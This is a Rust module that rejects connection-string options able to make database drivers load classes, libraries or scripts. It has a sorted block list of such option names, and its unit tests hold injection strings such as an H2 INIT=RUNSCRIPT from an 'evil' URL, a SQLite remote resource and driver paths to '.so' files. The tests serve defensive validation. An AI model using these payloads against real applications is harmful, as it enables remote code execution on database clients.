//! Options that name code to load.
//!
//! A URL is data: it comes from an environment variable, a settings page, a tenant. Whoever writes it chooses which
//! database is spoken to, and must not thereby choose which class, library or program this process runs. So everything
//! that names a file, class or program to load is refused unless the program says otherwise in its own code.

use percent_encoding::percent_decode_str;

use crate::error::{Error, ErrorKind};

/// Names of options that load code, or give the server a way to files and programs of the client. Lower case, letters
/// and digits only, as [`bare`] makes them. Sorted.
///
/// Most are properties of JDBC drivers that name a class to instantiate or a file to write: those of pgjdbc
/// (`socketFactory`, CVE-2022-21724), MySQL Connector/J (`autoDeserialize`, `queryInterceptors`), MariaDB, SQL Server
/// (`socketFactoryClass`) and H2 (`INIT`, which runs SQL that can define Java). The rest belong to ODBC drivers and to
/// the hosts.
const CODE: &[&str] = &[
    "accesstokencallbackclass",
    "allowloadlocalinfile",
    "allowloadlocalinfileinpath",
    "allowlocalinfile",
    "allowurlinlocalinfile",
    "authenticationpluginclassname",
    "authenticationplugins",
    "autodeserialize",
    "classloader",
    "classpath",
    "clientinfoprovider",
    "clientrerouteserverlistjndiname",
    "connectionlifecycleinterceptors",
    "credentialtype",
    "databaseeventlistener",
    "dbapipath",
    "defaultauth",
    "defaultauthenticationplugin",
    "dllpath",
    "enableloadextension",
    "enablelocalinfile",
    "exceptioninterceptors",
    "extension",
    "extensions",
    "filedsn",
    "gsslib",
    "init",
    "interceptors",
    "jaasapplicationname",
    "jaasconfigurationname",
    "java",
    "javaexecutable",
    "javahome",
    "javaobjectserializer",
    "javaoptions",
    "jdbcdriver",
    "jndi",
    "jvmargs",
    "jvmoptions",
    "jvmpath",
    "loadbalancestrategy",
    "loaddatalocaldir",
    "loadext",
    "loadextension",
    "localinfile",
    "logger",
    "loggerfile",
    "parseinfocachefactory",
    "plugindir",
    "profilereventhandler",
    "propertiestransform",
    "python",
    "pythonexecutable",
    "pythonhome",
    "pythonpath",
    "queryinfocachefactory",
    "queryinterceptors",
    "savefile",
    "serverconfigcachefactory",
    "socketfactory",
    "socketfactoryarg",
    "socketfactoryclass",
    "socketfactoryconstructorarg",
    "sslfactory",
    "sslfactoryarg",
    "sslhostnameverifier",
    "sslpasswordcallback",
    "statementinterceptors",
    "tracefile",
    "translationdll",
    "trustmanagerclass",
    "trustmanagerconstructorarg",
    "xmlfactoryfactory",
];

/// A name with all that drivers overlook taken away, so that no spelling slips by: encodings, case, `_`, `-`, spaces.
///
/// Case is folded over capitals, as Java compares names: `ı` and `ſ` are no ASCII, and their capitals are `I` and `S`,
/// so that `ınıt` is H2's `INIT`.
fn bare(name: &str) -> String {
    let mut name = name.to_string();
    // Drivers decode once; a proxy in front of them may have done so before. Three rounds settle any honest name.
    for _ in 0..3 {
        name = percent_decode_str(&name).decode_utf8_lossy().into_owned();
    }
    let folded = name.chars().flat_map(char::to_uppercase).flat_map(char::to_lowercase);
    folded.filter(char::is_ascii_alphanumeric).collect()
}

/// Refuses an option by its name, or by a value that is a path where a name belongs.
pub(super) fn check_option(name: &str, value: &str) -> Result<(), Error> {
    let bare = bare(name);
    if CODE.binary_search(&&*bare).is_ok() {
        return Err(forbidden(format!("the option `{name}`")));
    }
    if bare == "driver" && is_path(value) {
        return Err(forbidden("the option `driver` with a path (the name of a registered driver is fine)"));
    }
    // Driver arguments arrive as a JSON document of further options.
    match serde_json::from_str(value) {
        Ok(json @ (serde_json::Value::Object(_) | serde_json::Value::Array(_))) => check_json(name, &json),
        _ => Ok(()),
    }
}

fn check_json(option: &str, json: &serde_json::Value) -> Result<(), Error> {
    match json {
        serde_json::Value::Object(map) => map.iter().try_for_each(|(name, value)| {
            check_option(name, value.as_str().unwrap_or_default())
                .map_err(|error| error.context(format_args!("in the option `{option}`")))?;
            check_json(option, value)
        }),
        serde_json::Value::Array(list) => list.iter().try_for_each(|value| check_json(option, value)),
        _ => Ok(()),
    }
}

/// Refuses a foreign connection string that holds such an option.
///
/// Foreign grammars differ, so every `=` in it counts, with whatever name stands before it.
pub(super) fn check_foreign(text: &str) -> Result<(), Error> {
    let mut text = text.to_string();
    for _ in 0..3 {
        check_foreign_once(&text)?;
        text = percent_decode_str(&text).decode_utf8_lossy().into_owned();
    }
    check_foreign_once(&text)
}

fn check_foreign_once(text: &str) -> Result<(), Error> {
    const ENDS: [char; 12] = ['?', '&', ';', ',', '(', ')', '{', '}', '|', '/', ':', '='];
    for (at, _) in text.match_indices('=') {
        let name = text[..at].rsplit(ENDS).next().unwrap_or_default().trim();
        let value = text[at + 1..].trim_start().trim_start_matches('{');
        let value = value.split([';', '}', '&']).next().unwrap_or_default();
        check_option(name, value).map_err(|error| error.context("in the connection string"))?;
    }
    // The JDBC driver of SQLite downloads such a database and opens it (CVE-2023-32697).
    if text.to_ascii_lowercase().contains(":resource:") {
        return Err(forbidden("a database that is a resource"));
    }
    Ok(())
}

fn is_path(text: &str) -> bool {
    let text = text.trim().trim_start_matches('{').trim_end_matches('}').to_ascii_lowercase();
    text.contains(['/', '\\'])
        || [".so", ".dll", ".dylib"].iter().any(|end| text.ends_with(end))
        || text.contains(".so.")
}

pub(super) fn forbidden(what: impl std::fmt::Display) -> Error {
    Error::new(
        ErrorKind::ForbiddenOption,
        format!(
            "{what} names code or files to load, and a URL is only data; call allow_code_options(true) on the builder if \
             whoever configures this database may choose what the program loads"
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_list_is_sorted_and_bare() {
        assert!(CODE.is_sorted_by(|a, b| a < b), "{:?}", CODE.windows(2).find(|pair| pair[0] >= pair[1]));
        for name in CODE {
            assert_eq!(bare(name), *name);
        }
    }

    #[test]
    fn no_spelling_slips_by() {
        for name in
            ["classpath", "ClassPath", "class_path", "class-path", "cl%61sspath", "cl%2561sspath", " class path "]
        {
            assert_eq!(check_option(name, "x").expect_err(name).kind(), ErrorKind::ForbiddenOption);
        }
    }

    #[test]
    fn letters_whose_other_case_is_ascii_do_not_slip_by() {
        // Dotless i, long s, the sign for kelvin, I with a dot.
        for name in
            ["\u{131}n\u{131}t", "\u{17f}ocketFactory", "soc\u{212a}etFactory", "\u{130}N\u{130}T", "%C4%B1n%C4%B1t"]
        {
            assert_eq!(check_option(name, "x").expect_err(name).kind(), ErrorKind::ForbiddenOption);
            let text = format!("h2:mem:x;{name}=RUNSCRIPT FROM 'http://evil'");
            assert_eq!(check_foreign(&text).expect_err(&text).kind(), ErrorKind::ForbiddenOption);
        }
    }

    #[test]
    fn a_driver_may_be_named_and_not_pointed_at() {
        for fine in ["ODBC Driver 18 for SQL Server", "{PostgreSQL Unicode}", "SQLite3"] {
            check_option("driver", fine).expect(fine);
            check_foreign(&format!("DRIVER={fine};SERVER=h")).expect(fine);
        }
        for path in ["/tmp/evil.so", "{/tmp/evil.so}", "evil.so", "evil.so.1", "..\\evil.dll", "x.dylib"] {
            check_option("Driver", path).expect_err(path);
            check_foreign(&format!("DRIVER={path};SERVER=h")).expect_err(path);
        }
    }

    #[test]
    fn nested_and_foreign_options_are_found() {
        for json in [r#"{"socketFactory":"x"}"#, r#"{"a":{"b":[{"autoDeserialize":true}]}}"#, r#"["u",{"INIT":"x"}]"#] {
            check_option("jdbc_driver_args", json).expect_err(json);
        }
        check_option("jdbc_driver_args", r#"{"user":"u","ssl":"true"}"#).expect("harmless");
        for text in [
            "postgresql://h/db?socketFactory=x",
            "postgresql://h/db?a=b&SOCKETFACTORY=x",
            "mysql://address=(host=h)(autoDeserialize=true)/db",
            "mysql://(host=h,query_interceptors=x)/db",
            "h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
            "mysql://h/db?%61utoDeserialize=true",
            "sqlserver://h;socketFactoryClass=x",
            "sqlite::resource:http://evil/x.db",
            ":resource:http://evil/x.db",
            "DRIVER={SQLite3};LoadExt=/tmp/x.so",
            "FILEDSN=/tmp/x.dsn",
        ] {
            assert_eq!(check_foreign(text).expect_err(text).kind(), ErrorKind::ForbiddenOption, "{text}");
        }
        for text in ["postgresql://h:5432/db?user=u&password=p", "h2:mem:test;MODE=PostgreSQL", "DSN=warehouse;UID=u"] {
            check_foreign(text).expect(text);
        }
    }
}
